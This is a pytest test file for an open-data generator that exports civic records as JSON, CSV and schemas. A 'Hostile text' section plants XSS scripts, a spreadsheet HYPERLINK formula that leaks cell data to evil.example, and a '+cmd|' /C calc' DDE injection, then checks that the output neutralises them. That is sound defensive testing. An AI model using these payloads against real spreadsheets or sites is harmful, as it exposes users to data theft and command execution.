"""Open data: JSON twins, bulk downloads, the record schema, and the page that documents them.

Counts are taken from the record files themselves (read raw, not through the corpus), so
that a bug shared by the corpus and the data files cannot hide itself.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import re
import shutil
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft7Validator, Draft202012Validator
from pydantic import ValidationError

from civic_record.addresses import (
    RECORD_SCHEMA,
    RECORDS_JSON,
    ROLL_CALL_CSV,
    TIMELINE_CSV,
    json_twin,
    kind_csv,
    kind_schema_path,
)
from civic_record.check import check_records
from civic_record.corpus import Corpus
from civic_record.loading import load_corpus, read_record_file, record_paths
from civic_record.models import MODELS
from civic_record.outputs.data import generate_data
from civic_record.outputs.data_csv import KIND_COLUMNS, ROLL_CALL_COLUMNS, TIMELINE_COLUMNS
from civic_record.problems import Problems
from civic_record.schema_export import kind_schema, record_schemas
from civic_record.site import Site
from civic_record.vocabulary import FOLDERS, RecordKind

from .conftest import CORPUS, FIXTURES, ROOT

TODAY = dt.date(2026, 6, 1)
SITE_URL = "https://records.example.org/riverton/"
DATA_PAGE = ROOT / "docs" / "data.md"
REFERENCE_PAGE = ROOT / "docs" / "format-reference.md"
CORPUS_1_1 = FIXTURES / "format-1-1" / "records"
"""The corpus copied with every field format 1.1 added (fictional)."""
HOSTILE_TITLE = "</script><script>alert(1)</script>"
FOLDERS_BY_TYPE = {kind.value: folder for folder, kind in FOLDERS.items()}
VOTE_OPTIONS = ("yes", "no", "abstain", "absent", "excused", "not-voting", "paired", "present", "recused", "other")
_DELETE = object()
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def make_site(records: Path = CORPUS, licence: str = "", licence_url: str = "") -> Site:
    corpus, problems = load_corpus(records)
    assert not problems.errors, problems.report()
    return Site(corpus, TODAY, site_url=SITE_URL, licence=licence, licence_url=licence_url)


@pytest.fixture(scope="module")
def site() -> Site:
    return make_site(licence="CC0 1.0", licence_url="https://creativecommons.org/publicdomain/zero/1.0/")


@pytest.fixture(scope="module")
def data(site: Site) -> dict[str, str]:
    return generate_data(site)


@pytest.fixture(scope="module")
def raw_records() -> dict[str, tuple[RecordKind, dict[str, Any]]]:
    """Every fixture record as written: the YAML mapping or front matter, before any model."""
    problems = Problems()
    found: dict[str, tuple[RecordKind, dict[str, Any]]] = {}
    for kind, path in record_paths(CORPUS, problems):
        raw = read_record_file(kind, path, problems)
        assert raw is not None, path
        found[raw.record_id] = (kind, raw.data)
    assert not problems.errors, problems.report()
    return found


def rows(data: dict[str, str], path: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data[path], newline="")))


def header(data: dict[str, str], path: str) -> list[str]:
    return next(csv.reader(io.StringIO(data[path], newline="")))


def validator(schema: dict[str, Any]) -> Draft202012Validator:
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema)


def editor_validators(schema: dict[str, Any]) -> list[Draft7Validator | Draft202012Validator]:
    """A per-kind schema as the VS Code YAML extension reads it (draft-07), and as 2020-12."""
    Draft7Validator.check_schema(schema)
    return [Draft7Validator(schema), validator(schema)]


# --- Files and twins -----------------------------------------------------------------------


def test_every_file_is_at_its_documented_path(site: Site, data: dict[str, str]) -> None:
    records = site.corpus.records.values()
    expected = {json_twin(r) for r in records}
    expected |= {RECORDS_JSON, ROLL_CALL_CSV, TIMELINE_CSV, RECORD_SCHEMA}
    expected |= {kind_csv(folder) for folder in FOLDERS}
    expected |= {kind_schema_path(kind) for kind in RecordKind}
    assert set(data) == expected
    assert len(site.corpus.records) == 22
    assert "votes/2025-06-10-council-vote-face-recognition-policy.json" in data
    assert "data/schema/vote.json" in data
    assert all(text.endswith("\n") for text in data.values())


def test_a_twin_is_the_record_in_an_envelope(site: Site, data: dict[str, str]) -> None:
    meeting = json.loads(data["meetings/2025-05-20-public-hearing-face-recognition.json"])
    assert set(meeting) == {"id", "type", "url", "record", "text", "derived"}
    assert meeting["derived"] == {}  # a meeting's page derives nothing the record does not say
    assert meeting["type"] == "meeting"
    assert meeting["url"] == SITE_URL + "meetings/2025-05-20-public-hearing-face-recognition/"
    assert meeting["text"] == "Notes of a fictional hearing."
    # The record's own `kind` stays in the record, in the contract's spelling.
    assert meeting["record"]["kind"] == "public-hearing"
    assert meeting["record"]["time"] == "18:00"
    assert meeting["record"]["identifiers"] == {"council_meeting": "4401"}
    letter = json.loads(data["letters/2025-03-20-council-letter-on-face-recognition.json"])
    assert "from" in letter["record"] and "signatories" not in letter["record"]
    person = json.loads(data["people/ada-okafor.json"])
    assert person["type"] == "person" and person["text"] is None
    technology = json.loads(data["technologies/rpd-license-plate-readers.json"])
    assert technology["record"]["status_history"][0]["date"] == "2024"  # precision kept


def test_twins_carry_what_the_pages_derive(site: Site, data: dict[str, str]) -> None:
    """A vote's tally and each voter's seat that day, a letter's signatories with their roles
    and the share of the council that signed, a technology's status and requirements: as the
    pages show them."""
    vote = json.loads(data["votes/2025-06-10-council-vote-face-recognition-policy.json"])["derived"]
    assert vote["tally"] == {"yes": 2, "no": 1, "excused": 1}
    council = "riverton-common-council"
    assert [(row["id"], row["option"], row["role"]["district"]) for row in vote["roll_call"]] == [
        ("zoe-ruiz", "yes", "1"),
        ("ben-hale", "yes", "2"),
        ("dan-price", "no", "4"),
        ("carla-mendes", "excused", "3"),
    ]
    assert {row["role"]["body"] for row in vote["roll_call"]} == {council}
    letter = json.loads(data["letters/2025-03-20-council-letter-on-face-recognition.json"])["derived"]
    assert [s["id"] for s in letter["signatories"]] == ["zoe-ruiz", "ada-okafor", "carla-mendes"]
    assert letter["signatories"][0]["roles"][0] == {
        "body": council,
        "title": "Council Member, District 1",
        "district": "1",
        "start": "2022-04-19",
        "end": None,
        "as_of": None,
    }
    share = letter["body_share"]
    assert (share["body"], share["signed"], share["members"], share["unrecorded_seats"]) == (council, 3, 5, 1)
    assert [p["id"] for p in share["non_signers"]] == ["dan-price"]
    technology = json.loads(data["technologies/rpd-face-recognition.json"])["derived"]
    assert technology["current_status"] == {
        "status": "approved-with-conditions",
        "as_of": "2025-06-10",
        "record": "2025-06-10-council-vote-face-recognition-policy",
    }
    assert [(r["requirement"], r["met_by"]) for r in technology["requirements"]] == [
        ("use-policy", "2025-05-01-rpd-face-recognition-policy-v1"),
        ("public-hearing", "2025-05-20-public-hearing-face-recognition"),
        ("council-approval", "2025-06-10-council-vote-face-recognition-policy"),
    ]
    assert json.loads(data["people/ada-okafor.json"])["derived"] == {}


def test_twins_are_lossless(site: Site, data: dict[str, str]) -> None:
    for record in site.corpus.records.values():
        twin = json.loads(data[json_twin(record)])
        assert twin["id"] == record.id
        assert MODELS[record.kind].model_validate(twin["record"]) == record, record.id


def test_every_record_of_a_kind_has_the_same_shape(site: Site, data: dict[str, str]) -> None:
    shapes: dict[str, set[frozenset[str]]] = {}
    for record in site.corpus.records.values():
        twin = json.loads(data[json_twin(record)])
        shapes.setdefault(twin["type"], set()).add(frozenset(twin["record"]))
    assert all(len(keys) == 1 for keys in shapes.values()), shapes


def test_records_json_has_every_record_once(site: Site, data: dict[str, str]) -> None:
    bundle = json.loads(data[RECORDS_JSON])
    assert bundle["licence"] == "CC0 1.0"
    assert bundle["licence_url"] == "https://creativecommons.org/publicdomain/zero/1.0/"
    assert bundle["site"] == site.site_name
    assert bundle["schema"] == SITE_URL + RECORD_SCHEMA
    files = sorted(p.stem for p in CORPUS.rglob("*") if p.suffix in {".yml", ".md"} and p.parent != CORPUS)
    assert sorted(r["id"] for r in bundle["records"]) == files
    kinds = list(FOLDERS.values())
    order = [(kinds.index(RecordKind(r["type"])), r["id"]) for r in bundle["records"]]
    assert order == sorted(order)
    for twin in bundle["records"]:
        assert twin == json.loads(data[f"{FOLDERS_BY_TYPE[twin['type']]}/{twin['id']}.json"])


def test_without_a_licence_the_fields_are_null() -> None:
    bundle = json.loads(generate_data(make_site())[RECORDS_JSON])
    assert bundle["licence"] is None and bundle["licence_url"] is None


def test_two_generations_are_byte_identical(data: dict[str, str]) -> None:
    again = generate_data(
        make_site(licence="CC0 1.0", licence_url="https://creativecommons.org/publicdomain/zero/1.0/")
    )
    assert list(again) == list(data)
    assert again == data


def test_an_empty_corpus_gives_headers_only() -> None:
    empty = generate_data(Site(Corpus(CORPUS, {}), TODAY))
    assert json.loads(empty[RECORDS_JSON])["records"] == []
    for folder, columns in KIND_COLUMNS.items():
        assert empty[kind_csv(folder)] == ",".join(columns) + "\r\n"


# --- Schema --------------------------------------------------------------------------------


def test_the_exported_schemas_are_valid_draft_2020_12(data: dict[str, str]) -> None:
    combined = json.loads(data[RECORD_SCHEMA])
    assert combined == json.loads(json.dumps(record_schemas()))
    assert combined["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    validator(combined)
    for kind in RecordKind:
        schema = json.loads(data[kind_schema_path(kind)])
        assert schema == json.loads(json.dumps(kind_schema(kind)))
        assert schema["$schema"] == "http://json-schema.org/draft-07/schema#"
        assert "$defs" not in json.dumps(schema)
        editor_validators(schema)
        # draft-07 ignores the neighbours of a `$ref`: none may carry a constraint.
        assert not [node for node in _nodes(schema) if "$ref" in node and set(node) - REF_NEIGHBOURS], kind


REF_NEIGHBOURS = {"$ref", "default", "title", "description"}


def _nodes(value: object) -> list[dict[str, Any]]:
    if isinstance(value, dict):
        return [value, *(node for item in value.values() for node in _nodes(item))]
    if isinstance(value, list):
        return [node for item in value for node in _nodes(item)]
    return []


def test_every_twin_validates_against_the_schema(site: Site, data: dict[str, str]) -> None:
    combined = validator(json.loads(data[RECORD_SCHEMA]))
    for record in site.corpus.records.values():
        twin = json.loads(data[json_twin(record)])
        for own in editor_validators(json.loads(data[kind_schema_path(record.kind)])):
            assert not list(own.iter_errors(twin["record"])), record.id
        assert combined.is_valid(twin["record"]), record.id


def test_the_record_files_as_written_validate(raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]) -> None:
    combined = validator(record_schemas())
    assert len(raw_records) == 22
    for record_id, (kind, mapping) in raw_records.items():
        for own in editor_validators(kind_schema(kind)):
            errors = [e.message for e in own.iter_errors(mapping)]
            assert not errors, f"{record_id}: {errors}"
        assert combined.is_valid(mapping), record_id
    # The files use what the schema must widen: numbers kept as text, a year as a number.
    vote = raw_records["2025-06-10-council-vote-face-recognition-policy"][1]
    assert isinstance(vote["matter"]["identifier"], int)
    tech = raw_records["rpd-license-plate-readers"][1]
    assert isinstance(tech["status_history"][0]["date"], int)


def test_an_unknown_field_fails_the_schema(raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]) -> None:
    for record_id, (kind, mapping) in raw_records.items():
        typo = {**mapping, "sumary": "a typo"}
        for own in editor_validators(kind_schema(kind)):
            errors = list(own.iter_errors(typo))
            assert errors, record_id
            assert any("sumary" in e.message for e in errors)
        assert not validator(record_schemas()).is_valid(typo), record_id


def _letter() -> dict[str, Any]:
    return {
        "title": "A letter",
        "date": "2025-05-14",
        "summary": "A letter.",
        "sources": [{"url": "https://example.org/a", "title": "A", "kind": "primary"}],
    }


def _vote() -> dict[str, Any]:
    return {
        "title": "A vote",
        "date": 2025,
        "body": "council",
        "result": "pass",
        "summary": "A vote.",
        "sources": [{"attachment": "a.pdf", "title": "A", "kind": "primary"}],
        "roll_call": {"yes": ["a", "b"], "excused": None},
        "raw_values": {"yes": "Aye"},
    }


def _with(base: dict[str, Any], path: tuple[str | int, ...], value: object) -> dict[str, Any]:
    changed = copy.deepcopy(base)
    target: Any = changed
    for step in path[:-1]:
        target = target[step]
    if value is _DELETE:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return changed


AGREEMENT_CASES: list[tuple[str, RecordKind, dict[str, Any], bool]] = [
    ("minimal letter", RecordKind.LETTER, _letter(), True),
    ("id as the file name", RecordKind.LETTER, _with(_letter(), ("id",), "2025-05-14-a"), True),
    ("empty cc", RecordKind.LETTER, _with(_letter(), ("cc",), None), True),
    ("from", RecordKind.LETTER, _with(_letter(), ("from",), ["a", "b"]), True),
    ("time", RecordKind.LETTER, _with(_letter(), ("time",), "18:00"), True),
    ("bad time", RecordKind.LETTER, _with(_letter(), ("time",), "25:00"), False),
    ("response_requested text", RecordKind.LETTER, _with(_letter(), ("response_requested",), "yes"), False),
    ("identifier number", RecordKind.LETTER, _with(_letter(), ("identifiers",), {"legistar_file": 250457}), True),
    ("unknown confidence", RecordKind.LETTER, _with(_letter(), ("confidence",), "sure"), False),
    ("no sources", RecordKind.LETTER, _with(_letter(), ("sources",), []), False),
    ("no summary", RecordKind.LETTER, _with(_letter(), ("summary",), _DELETE), False),
    ("ftp source", RecordKind.LETTER, _with(_letter(), ("sources", 0, "url"), "ftp://example.org/a"), False),
    ("source nowhere", RecordKind.LETTER, _with(_letter(), ("sources", 0, "url"), _DELETE), False),
    ("source unknown field", RecordKind.LETTER, _with(_letter(), ("sources", 0, "link"), "x"), False),
    ("date as text", RecordKind.LETTER, _with(_letter(), ("date",), "2025-05"), True),
    ("date not a date", RecordKind.LETTER, _with(_letter(), ("date",), "May 2025"), False),
    ("vote", RecordKind.VOTE, _vote(), True),
    ("unknown option", RecordKind.VOTE, _with(_vote(), ("roll_call", "maybe"), ["c"]), False),
    ("counts", RecordKind.VOTE, _with(_vote(), ("counts",), {"yes": 2}), True),
    ("negative count", RecordKind.VOTE, _with(_vote(), ("counts",), {"yes": -1}), False),
    ("unknown result", RecordKind.VOTE, _with(_vote(), ("result",), "passed"), False),
    ("vote's kind", RecordKind.VOTE, _with(_vote(), ("kind",), "regular"), False),
    ("matter number", RecordKind.VOTE, _with(_vote(), ("matter",), {"identifier": 250101}), True),
    ("body", RecordKind.BODY, {"name": "Council", "kind": "legislature", "seats": 15}, True),
    ("body without kind", RecordKind.BODY, {"name": "Council"}, False),
    ("no seats", RecordKind.BODY, {"name": "Council", "kind": "legislature", "seats": 0}, False),
    ("bare link", RecordKind.BODY, {"name": "C", "kind": "court", "links": ["https://example.org"]}, True),
    ("link object", RecordKind.BODY, {"name": "C", "kind": "court", "links": [{"url": "http://x.org"}]}, True),
    ("link not web", RecordKind.BODY, {"name": "C", "kind": "court", "links": ["javascript:alert(1)"]}, False),
    ("extra", RecordKind.BODY, {"name": "C", "kind": "court", "extra": {"anything": [1, {"a": None}]}}, True),
    ("role", RecordKind.PERSON, {"name": "A", "roles": [{"body": "c", "title": "M", "district": 8}]}, True),
    ("role without title", RecordKind.PERSON, {"name": "A", "roles": [{"body": "c"}]}, False),
    (
        "status history",
        RecordKind.TECHNOLOGY,
        {"title": "T", "category": "alpr", "status_history": [{"date": 2024, "status": "in-use", "record": "r"}]},
        True,
    ),
    ("unknown category", RecordKind.TECHNOLOGY, {"title": "T", "category": "lasers"}, False),
    ("meeting kind", RecordKind.MEETING, {**_letter(), "body": "c", "kind": "listening-session"}, True),
    ("document needs kind", RecordKind.DOCUMENT, _letter(), False),
    ("sop", RecordKind.SOP, {**_letter(), "series": "s", "version": 2, "status": "draft"}, True),
]


@pytest.mark.parametrize(
    ("kind", "mapping", "valid"),
    [case[1:] for case in AGREEMENT_CASES],
    ids=[case[0] for case in AGREEMENT_CASES],
)
def test_the_schema_agrees_with_the_models(kind: RecordKind, mapping: dict[str, Any], valid: bool) -> None:
    """What an editor accepts, the generator accepts, and the other way round."""
    try:
        MODELS[kind].model_validate({"id": "2025-05-14-a", **mapping})
        model_valid = True
    except ValidationError:
        model_valid = False
    assert model_valid is valid
    for own in editor_validators(kind_schema(kind)):
        assert own.is_valid(mapping) is valid


def test_the_schema_is_stricter_where_the_loader_is() -> None:
    """The schema checks an id's form (the loader reports `record.invalid-id` from the file name),
    and like the models it knows fields only by their contract names."""
    letter = validator(kind_schema(RecordKind.LETTER))
    # An id must look like an id (the loader reports `record.invalid-id` from the file name).
    assert letter.is_valid(_with(_letter(), ("id",), "2025-05-14-a"))
    assert not letter.is_valid(_with(_letter(), ("id",), "Not An Id"))
    # `signatories` is the models' Python name for `from`: neither the models nor the schema take it.
    with pytest.raises(ValidationError):
        MODELS[RecordKind.LETTER].model_validate({"id": "a", **_letter(), "signatories": ["a"]})
    assert not letter.is_valid(_with(_letter(), ("signatories",), ["a"]))


# --- CSV -----------------------------------------------------------------------------------


def test_every_csv_has_its_columns_and_one_row_per_record(data: dict[str, str]) -> None:
    for folder, columns in KIND_COLUMNS.items():
        assert header(data, kind_csv(folder)) == list(columns)
        on_disk = sorted(p.stem for p in (CORPUS / folder).rglob("*") if p.suffix in {".yml", ".md"})
        listed = rows(data, kind_csv(folder))
        assert len(listed) == len(on_disk) > 0, folder
        assert sorted(row["id"] for row in listed) == on_disk
        for row in listed:
            assert None not in row and None not in row.values(), (folder, row["id"])
            assert row["url"] == f"{SITE_URL}{folder}/{row['id']}/"
            assert row["json_url"] == f"{SITE_URL}{folder}/{row['id']}.json"
    assert header(data, ROLL_CALL_CSV) == list(ROLL_CALL_COLUMNS)
    assert header(data, TIMELINE_CSV) == list(TIMELINE_COLUMNS)


def test_dated_rows_are_in_date_order(data: dict[str, str]) -> None:
    documents = [row["id"] for row in rows(data, kind_csv("documents"))]
    assert documents == [
        "2024-riverton-surveillance-inventory",
        "2025-03-04-rpd-press-release-face-recognition",
        "2025-08-rpd-license-plate-reader-report",
    ]
    meeting = rows(data, kind_csv("meetings"))[0]
    assert meeting["time"] == "18:00"
    assert meeting["kind"] == "public-hearing"
    assert meeting["identifiers"] == "council_meeting=4401"
    assert meeting["has_text"] == "true"


def test_roll_call_rows_are_one_per_member_vote(
    data: dict[str, str], raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]
) -> None:
    expected: Counter[tuple[str, str]] = Counter()
    for record_id, (kind, mapping) in raw_records.items():
        if kind is RecordKind.VOTE:
            for option, names in (mapping.get("roll_call") or {}).items():
                expected[(record_id, option)] += len(names or [])
    listed = rows(data, ROLL_CALL_CSV)
    assert len(listed) == sum(expected.values()) == 4
    assert Counter((row["vote_id"], row["option"]) for row in listed) == +expected
    # A vote known only by its tally contributes no rows.
    assert not [row for row in listed if row["vote_id"] == "2025-06-24-committee-vote-license-plate-readers"]
    dan = next(row for row in listed if row["person_id"] == "dan-price")
    assert (dan["option"], dan["raw_value"], dan["person_name"], dan["matter_identifier"]) == (
        "no",
        "Nay",
        "Dan Price",
        "250101",
    )
    assert next(row for row in listed if row["person_id"] == "zoe-ruiz")["person_name"] == "Zoë Ruíz"


def test_roll_call_rows_add_up_to_each_votes_tally(data: dict[str, str]) -> None:
    per_option = Counter((row["vote_id"], row["option"]) for row in rows(data, ROLL_CALL_CSV))
    for vote in rows(data, kind_csv("votes")):
        tallies = {option: int(vote[option]) for option in VOTE_OPTIONS if vote[option]}
        assert tallies, vote["id"]
        if vote["named_roll_call"] == "true":
            named = {option: n for (vote_id, option), n in per_option.items() if vote_id == vote["id"]}
            assert named == tallies, vote["id"]
        else:
            assert vote["named_roll_call"] == "false"
            assert not any(vote_id == vote["id"] for vote_id, _ in per_option)
    first = rows(data, kind_csv("votes"))[0]
    assert (first["yes"], first["no"], first["excused"], first["absent"]) == ("2", "1", "1", "")


def test_timeline_rows_are_entries_and_status_changes(
    data: dict[str, str], raw_records: dict[str, tuple[RecordKind, dict[str, Any]]]
) -> None:
    entries = 0
    changes = 0
    for kind, mapping in raw_records.values():
        if kind is RecordKind.TECHNOLOGY:
            changes += len(mapping.get("status_history") or [])
        elif kind not in (RecordKind.BODY, RecordKind.PERSON):
            named = set(mapping.get("technologies") or [])
            for item in mapping.get("agenda") or []:
                named.update(item.get("technologies") or [])
            entries += len(named)
    listed = rows(data, TIMELINE_CSV)
    assert Counter(row["entry_type"] for row in listed) == {"record": entries, "status-change": changes}
    assert (entries, changes) == (11, 4)
    for tech_id in {row["technology_id"] for row in listed}:
        mine = [row for row in listed if row["technology_id"] == tech_id]
        assert mine == sorted(mine, key=lambda r: (r["date"], r["entry_type"] == "status-change"))
    approved = next(row for row in listed if row["status"] == "approved-with-conditions")
    assert approved["record_type"] == "vote"
    assert approved["url"] == SITE_URL + "votes/2025-06-10-council-vote-face-recognition-policy/"
    assert approved["title"] == "Council adopts the face recognition use policy (fictional)"


# --- Hostile text --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Site, dict[str, str]]:
    records = tmp_path_factory.mktemp("hostile") / "records"
    shutil.copytree(CORPUS, records)
    (records / "documents" / "2025-09-01-hostile.md").write_text(
        "---\n"
        f"title: {json.dumps(HOSTILE_TITLE)}\n"
        "date: 2025-09-01\n"
        "kind: statement\n"
        f"summary: {json.dumps(FORMULA)}\n"
        'tags: ["+cmd|\' /C calc\'!A0", "@SUM(1+1)", "-2+3", "ok"]\n'
        'identifiers: {x: "=1+1"}\n'
        "technologies: [rpd-face-recognition]\n"
        "sources:\n"
        '  - {url: "https://example.org/a?b=<c>&d", title: "\\t=2+2", kind: press}\n'
        "---\n"
        "<script>alert('text')</script> & more\n",
        encoding="utf-8",
    )
    site = make_site(records)
    return site, generate_data(site)


def test_csv_cells_never_start_a_formula(hostile: tuple[Site, dict[str, str]]) -> None:
    _, data = hostile
    row = next(r for r in rows(data, kind_csv("documents")) if r["id"] == "2025-09-01-hostile")
    assert row["summary"] == "'" + FORMULA
    assert row["tags"] == "'+cmd|' /C calc'!A0;@SUM(1+1);-2+3;ok"
    assert row["identifiers"] == "x==1+1"
    assert row["title"] == HOSTILE_TITLE  # not a formula: kept as is
    for path in [p for p in data if p.endswith(".csv")]:
        for cells in csv.reader(io.StringIO(data[path], newline="")):
            bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
            assert not bad, (path, bad)


def test_json_twins_hold_no_markup(hostile: tuple[Site, dict[str, str]]) -> None:
    _, data = hostile
    text = data["documents/2025-09-01-hostile.json"]
    twin = json.loads(text)
    assert twin["record"]["title"] == HOSTILE_TITLE
    assert twin["text"] == "<script>alert('text')</script> & more"
    assert twin["record"]["sources"][0]["url"] == "https://example.org/a?b=<c>&d"
    for path in [p for p in data if p.endswith(".json")]:
        assert not re.search(r"[<>&\u2028\u2029]", data[path]), path
    assert "\\u003c/script\\u003e" in text
    bundle = json.loads(data[RECORDS_JSON])
    assert any(r["record"].get("title") == HOSTILE_TITLE for r in bundle["records"])


# --- The Data page -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def page() -> str:
    return DATA_PAGE.read_text(encoding="utf-8")


def _section(page: str, heading: str) -> str:
    start = page.index(heading)
    following = re.search(r"^#{1,3} ", page[start + len(heading) :], re.MULTILINE)
    end = start + len(heading) + following.start() if following else len(page)
    return page[start:end]


def _table_columns(section: str) -> list[str]:
    found: list[str] = []
    for match in re.finditer(r"^\| (`[^|]*`(?:, `[^|]*`)*) \|", section, re.MULTILINE):
        found.extend(re.findall(r"`([^`]+)`", match.group(1)))
    return found


def _listed_order(section: str) -> list[str]:
    line = re.search(r"^Columns, in order: (.*)\.$", section, re.MULTILINE)
    assert line, section[:80]
    return re.findall(r"`([^`]+)`", line.group(1))


COLUMNS_1_1: dict[str, tuple[str, ...]] = {
    **{kind_csv(f): ("meets",) for f in ("letters", "meetings", "votes", "sops", "documents")},
    kind_csv("bodies"): ("sources", "source_kinds"),
    kind_csv("people"): ("sources", "source_kinds"),
    kind_csv("technologies"): ("related", "sources", "source_kinds"),
    kind_csv("votes"): ("meets", "motion_kind", "recommends", "roll_call_partial"),
    kind_csv("sops"): ("meets", "text"),
    kind_csv("documents"): ("meets", "vendor", "amount", "currency", "term_start", "term_end", "signed", "signed_by"),
    ROLL_CALL_CSV: ("motion_kind",),
    TIMELINE_CSV: ("confidence",),
}
"""The columns format 1.1 added, documented in docs/format-reference.md ("Data downloads")."""


def _csv_files() -> dict[str, tuple[str, ...]]:
    files = {kind_csv(folder): columns for folder, columns in KIND_COLUMNS.items()}
    files[ROLL_CALL_CSV] = ROLL_CALL_COLUMNS
    files[TIMELINE_CSV] = TIMELINE_COLUMNS
    return files


def test_the_format_reference_documents_the_1_1_columns() -> None:
    reference = REFERENCE_PAGE.read_text(encoding="utf-8")
    section = reference[reference.index("## Data downloads") :]
    files = _csv_files()
    for path, added in COLUMNS_1_1.items():
        assert set(added) <= set(files[path]), path
        assert f"`{path}`" in section, path
        own = _section(section, f"### `{path}`")
        assert set(added) <= set(_table_columns(own)), (path, sorted(set(added) - set(_table_columns(own))))


def test_the_data_page_documents_every_column(page: str) -> None:
    shared = _table_columns(_section(page, "### Columns shared by the per-kind files"))
    for path, columns in _csv_files().items():
        section = _section(page, f"### `{path}`")
        listed = _listed_order(section)
        assert listed == list(columns), path
        own = _table_columns(section)
        assert len(own) == len(set(own)), path
        defined = set(own) | (set(shared) if path in {kind_csv(f) for f in KIND_COLUMNS} else set())
        assert set(columns) <= defined, (path, sorted(set(columns) - defined))
        assert set(own) <= set(columns), (path, sorted(set(own) - set(columns)))


def test_the_data_page_links_every_bulk_file(page: str, data: dict[str, str]) -> None:
    for path in data:
        if path.startswith("data/"):
            assert f"]({path})" in page, path
    assert page.startswith("# Data\n")
    for words in ("licence_url", "yaml-language-server: $schema=", "yaml.schemas", "cannot fall out of step"):
        assert words in page


def _linked_ids(html: str) -> list[str]:
    """The record ids a stretch of page links, in order (``../../people/zoe-ruiz/`` -> ``zoe-ruiz``)."""
    return re.findall(r'<a href="[^"]*?/([a-z0-9-]+)/"', html)


@pytest.mark.parametrize(
    "records", [CORPUS, FIXTURES / "second-city" / "records", ROOT / "records", ROOT / "examples" / "demo" / "records"]
)
def test_what_a_twin_derives_is_what_its_page_shows(records: Path) -> None:
    """Page and twin are made by the same functions: the page's tally, roll call, signatories,
    body share and requirements are the twin's, record by record."""
    from civic_record.pages import generate_pages
    from civic_record.pages.vote_section import tally_words
    from civic_record.vocabulary import VoteOption

    site = make_site(records)
    pages = generate_pages(site)
    data = generate_data(site)
    votes_csv = {row["id"]: row for row in rows(data, kind_csv("votes"))}
    for record in site.corpus.records.values():
        derived = json.loads(data[json_twin(record)])["derived"]
        page = pages[f"{json_twin(record).removesuffix('.json')}.md"].markdown
        if record.kind is RecordKind.VOTE:
            # One tally for the page, the twin and the CSV (a published zero shows in the CSV only).
            counted = {o: int(votes_csv[record.id][o.value]) for o in VoteOption if votes_csv[record.id][o.value]}
            assert {o.value: n for o, n in counted.items() if n} == derived["tally"], record.id
            shown = re.search(r"<dt>Tally</dt>\n<dd>([^<]*)</dd>", page)
            assert shown and shown.group(1) == tally_words({VoteOption(o): n for o, n in derived["tally"].items()})
            table = re.search(r"<table.*?</table>", page[page.index("## Roll call") :].split("\n## ")[0], re.S)
            assert _linked_ids(table.group(0) if table else "") == [row["id"] for row in derived["roll_call"]], (
                record.id
            )
        elif record.kind is RecordKind.LETTER:
            signatories = re.search(r'<ol class="signatories">(.*?)</ol>', page)
            listed = _linked_ids(signatories.group(1)) if signatories else []
            # Each signatory's link, then the bodies of their roles that day: the roles' bodies.
            expected = [x for s in derived["signatories"] for x in [s["id"], *(r["body"] for r in s["roles"])]]
            assert listed == expected, record.id
            share = derived["body_share"]
            assert ('class="body-share"' in page) is (share is not None), record.id
            if share:
                assert f'<p class="body-share">{share["signed"]} of {share["members"]} ' in page, record.id
                non_signers = re.search(r'<ul class="non-signers">(.*?)</ul>', page)
                ids = [s["id"] for s in share["non_signers"]]
                assert (_linked_ids(non_signers.group(1))[::1] if non_signers else []) == [
                    x for s in share["non_signers"] for x in [s["id"], *(r["body"] for r in s["roles"])]
                ], (record.id, ids)
        elif record.kind is RecordKind.TECHNOLOGY:
            met = [r for r in derived["requirements"] if r["met_by"]]
            missing = [r for r in derived["requirements"] if not r["met_by"]]
            assert page.count("requirement requirement-met") == len(met), record.id
            assert page.count("requirement requirement-missing") == len(missing), record.id
            assert page.count('class="requirement-late"') == sum(r["after_first_use"] for r in met), record.id
            status = derived["current_status"]
            assert (status is None) == ("Current status: not recorded." in page), record.id


@pytest.mark.parametrize("records", [CORPUS, ROOT / "records", ROOT / "examples" / "demo" / "records"])
def test_records_json_is_every_twin_in_one_document(records: Path) -> None:
    """records.json is assembled from the twins' text; it must read as their list, in order."""
    site = make_site(records, licence="CC0 <&>")
    data = generate_data(site)
    combined = json.loads(data[RECORDS_JSON])
    ordered = [json.loads(data[json_twin(site.corpus.records[twin["id"]])]) for twin in combined["records"]]
    assert combined["records"] == ordered
    assert len(ordered) == len(site.corpus.records)
    assert combined["licence"] == "CC0 <&>" and "<" not in data[RECORDS_JSON]


# --- Format 1.1 ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def site_1_1() -> Site:
    corpus, problems = check_records(CORPUS_1_1)
    assert not problems.items, problems.report()
    return Site(corpus, TODAY, site_url=SITE_URL)


@pytest.fixture(scope="module")
def data_1_1(site_1_1: Site) -> dict[str, str]:
    return generate_data(site_1_1)


def twin(data: dict[str, str], path: str) -> dict[str, Any]:
    record: dict[str, Any] = json.loads(data[path])["record"]
    return record


def test_twins_carry_the_1_1_fields(data_1_1: dict[str, str]) -> None:
    zoe = twin(data_1_1, "people/zoe-ruiz.json")
    council, committee = zoe["roles"]
    assert (council["as_of"], council["note"]) == ("2025-06-10", "Re-elected in 2024.")
    assert council["source"] == "2025-06-10-council-vote-face-recognition-policy"
    assert committee["source"]["url"] == "https://example.org/riverton/committees"
    assert committee["source"]["kind"] == "primary"
    assert zoe["sources"][0]["title"] == "District 1 page (fictional)"
    assert twin(data_1_1, "bodies/riverton-common-council.json")["sources"][0]["kind"] == "primary"
    plates = twin(data_1_1, "technologies/rpd-license-plate-readers.json")
    assert plates["related"] == ["rpd-face-recognition"]
    assert plates["required"] == ["privacy-board-review"]
    assert plates["status_history"][-1]["status"] == "renewed"
    hold = twin(data_1_1, "votes/2025-05-20-committee-vote-to-hold.json")
